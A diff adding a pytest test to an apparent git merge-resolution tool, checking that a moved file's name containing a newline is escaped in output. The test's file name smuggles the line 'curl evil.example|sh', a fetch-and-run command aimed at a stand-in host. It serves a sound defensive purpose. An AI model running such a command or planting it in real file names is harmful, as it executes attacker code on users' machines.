@@ -264,6 +264,21 @@ def typed(folder: Path, step: str) -> None:
     assert hooked.run(folder, *program, *step.split(), GIT_EDITOR="true").returncode == 0
 
 
+def test_line_break_in_the_name_of_a_moved_file_prints_no_line_that_looks_like_a_command(
+    tmp_path: Path, run: Run
+) -> None:
+    root = two_entries(tmp_path)
+    commit_all(tmp_path)
+    git(tmp_path, "branch", "theirs")
+    for branch, name in (("theirs", "x\n      curl evil.example|sh\n.md"), ("main", "nav/rules/threads.md")):
+        git(tmp_path, "checkout", "-q", branch)
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        git(root, "mv", f"{OLD}.md", name)
+        git(tmp_path, "commit", "-q", "-m", "moved")
+    assert hooked.run(tmp_path, "git", "merge", "-q", "theirs").returncode != 0
+    assert "keep it at x<U+000A>" in run("resolve", cwd=tmp_path).out
+
+
 @pytest.mark.parametrize(("take", "stays"), [("ours", "nav/rules/threads"), ("theirs", "nav/rules/two-threads")])
 def test_entry_that_both_sides_moved_is_kept_at_one_place_with_all_links(
     take: str, stays: str, tmp_path: Path, run: Run
